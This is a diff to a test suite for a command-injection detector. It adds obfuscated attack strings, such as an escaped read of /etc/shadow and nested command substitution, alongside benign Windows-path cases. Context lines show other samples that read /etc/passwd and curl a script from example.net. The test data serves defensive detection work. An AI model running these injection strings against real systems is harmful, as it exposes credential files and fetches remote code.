@@ -67,6 +67,9 @@ const ATTACKS = [
   ["/etc/[p]asswd"],
   ["c''at /etc/passwd"],
   ["c\\at /etc/passwd"],
+  // escapes doubled (a string in a string), substitution inside a substitution
+  ["; c\\\\a\\\\t /\\\\e\\\\t\\\\c/\\\\s\\\\h\\\\a\\\\d\\\\o\\\\w"],
+  ["$(`ls`)"],
   ['"w"hoami'],
   [";c${x}url http://example.net/x.sh"],
   ["{cat,/etc/passwd}"],
@@ -144,6 +147,9 @@ const BENIGN = [
   ["Great+service;+would+order+again"],
   ["type+safe builders; dir+layout"],
   ["a+b;c+d"],
+  // Windows shares and escaped paths keep their backslashes; markdown inline code stays documentation.
+  ["Map \\\\fileserver\\share as Z: then run `dir` in it"],
+  ['The JSON has "C:\\\\Users\\\\sam\\\\notes.txt" in it, escaped'],
 ] as const;
 
 describe("command injection", () => {
